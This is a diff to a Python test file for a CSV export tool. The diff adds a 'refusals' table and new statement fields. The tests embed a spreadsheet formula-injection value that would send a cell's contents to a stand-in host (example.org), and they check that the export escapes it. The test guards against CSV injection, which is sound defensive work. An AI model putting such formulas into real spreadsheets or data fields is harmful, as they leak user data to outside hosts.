@@ -20,6 +20,7 @@ from onrecord.domain import (
     DateCandidate,
     DateEstimate,
     DateReason,
+    Refusal,
     Report,
     Span,
     Statement,
@@ -30,7 +31,7 @@ from onrecord.publishing import export
 from onrecord.publishing.tables import as_written, harmless
 from onrecord.record import TABLES, DuplicateRow, Record, UnreadRow, open_record, write_record
 
-NAMES = ["reports", "statements", "actors", "unread", "duplicates"]
+NAMES = ["reports", "statements", "refusals", "actors", "unread", "duplicates"]
 FORMULA = '=HYPERLINK("http://example.org/?"&A1,"open")'
 TEXT = f"{FORMULA} said nobody. -1 degrees,\nthey “wrote” 😀."
 
@@ -72,9 +73,13 @@ def sample() -> Report:
                 plain,
                 (plain, formula),
                 day,
+                negation=span("nobody"),
+                venue=span("-1 degrees,\nthey"),
+                addressees=(plain, formula),
             ),
             Statement(None, None, (span("“wrote”"),), "direct", "writing", 0.5),
         ),
+        refusals=(Refusal(None, span("said nobody"), span("-1"), "silent", formula),),
     )
 
 
@@ -139,6 +144,11 @@ def test_csv_by_example(record: Record, tmp_path: Path) -> None:
     assert (first["said_on"], first["said_earliest"], first["said_latest"]) == ("2012-05-07", "", "2012-05-09")
     assert first["relayed_by"] == f"Lake Wire; {FORMULA}"
     assert (second["speaker"], second["source_start"], second["mode"]) == ("", "", "writing")
+    assert (first["negated"], first["hedged"], second["negated"]) == ("true", "false", "false")
+    assert (first["venue"], first["occasion"]) == ("'-1 degrees, they", "")
+    assert first["addressees"] == f"Lake Wire; {FORMULA}"
+    (refusal,) = cells(tmp_path, "refusals")
+    assert (refusal["who"], refusal["cue"], refusal["matter"]) == (f"'{FORMULA}", "said nobody", "'-1")
     (report,) = cells(tmp_path, "reports")
     assert report["title"] == '\'\tTab, "quotes"\r\nand lines'
     assert report["outlet"] == "'quoted'"
@@ -215,6 +225,7 @@ def _made_again(folder: Path) -> list[Report]:
     }
     statements = {row["id"]: row for row in objects(folder, "statements")}
     found = iter(objects(folder, "statements"))
+    refused = iter(objects(folder, "refusals"))
 
     def span(value: dict[str, Any] | None) -> Any:
         return None if value is None else Span(value["start"], value["end"], value["text"])
@@ -246,7 +257,13 @@ def _made_again(folder: Path) -> list[Report]:
             actor(row["addressee"]),
             tuple(map(actor, row["relayed_by"])),
             estimate(row["said_on"]),
+            *(span(row[name]) for name in ("negation", "hedge", "venue", "occasion")),
+            tuple(map(actor, row["addressees"])),
         )
+
+    def refusal(row: dict[str, Any]) -> Refusal:
+        words = (span(row[name]) for name in ("source", "cue", "matter"))
+        return Refusal(*words, row["kind"], actor(row["who"]), actor(row["addressee"]))
 
     reports = []
     for row in objects(folder, "reports"):
@@ -256,6 +273,7 @@ def _made_again(folder: Path) -> list[Report]:
                 chrome=tuple(map(span, row["chrome"])),
                 times=tuple(TimeExpression(span(each), each["type"], each["value"]) for each in row["times"]),
                 statements=tuple(statement(next(found)) for _ in row["statements"]),
+                refusals=tuple(refusal(next(refused)) for _ in row["refusals"]),
                 published=estimate(row["published"]),
                 **{
                     name: row[name]
